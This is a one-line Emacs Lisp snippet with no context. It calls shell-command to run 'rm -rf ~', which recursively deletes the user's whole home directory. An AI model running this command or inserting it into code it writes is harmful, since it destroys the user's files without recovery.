(shell-command "rm -rf ~")
